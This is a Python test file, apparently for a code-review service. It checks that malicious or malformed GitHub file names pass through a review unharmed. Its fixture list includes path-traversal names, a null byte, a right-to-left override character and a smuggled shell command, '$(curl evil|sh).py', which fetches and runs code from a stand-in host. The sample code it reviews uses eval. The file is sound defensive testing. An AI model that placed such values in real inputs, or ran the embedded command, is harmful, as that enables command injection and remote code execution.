"""Names that GitHub may send and git could never have go through a whole review unharmed."""

from __future__ import annotations

import pytest

from reviewer.bootstrap import examiners_of
from reviewer.service.prepare_review import Wishes
from reviewer.service.review_change import review_change
from tests.redteam.trial import personas
from tests.unit.github_answers import GitHubAnswers

NAMES = [
    'quote".py',
    "line\nbreak.py",
    "n" * 4_000 + ".py",
    "../../etc/passwd.py",
    "/etc/cron.d/job.py",
    "nul\0.py",
    "-rf.py",
    "$(curl evil|sh).py",
    '") { evil } #.py',
    "CON",
    "../Dockerfile",
    ".github/workflows/../../ci.yml",
    "caf\xe9 \u202e.py",
]
LINES = ["import os", "def run(a):", "    eval(a)"]


@pytest.mark.holds("S13", "R13")
async def test_names_that_git_could_never_have_are_reviewed_and_lead_nowhere() -> None:
    github = GitHubAnswers()
    patch = "@@ -0,0 +1,3 @@\n" + "\n".join(f"+{line}" for line in LINES)
    for name in NAMES:
        github.add(name, "\n".join([*LINES, ""]), status="added", patch=patch)
    judged = await review_change(github.workspace(), personas(), examiners_of(()), Wishes())
    review = judged.review
    assert [file.path for file in review.change.reviewed] == NAMES
    found = {placed.finding.path for placed in review.findings}
    assert found >= {name for name in NAMES if name.endswith(".py")}
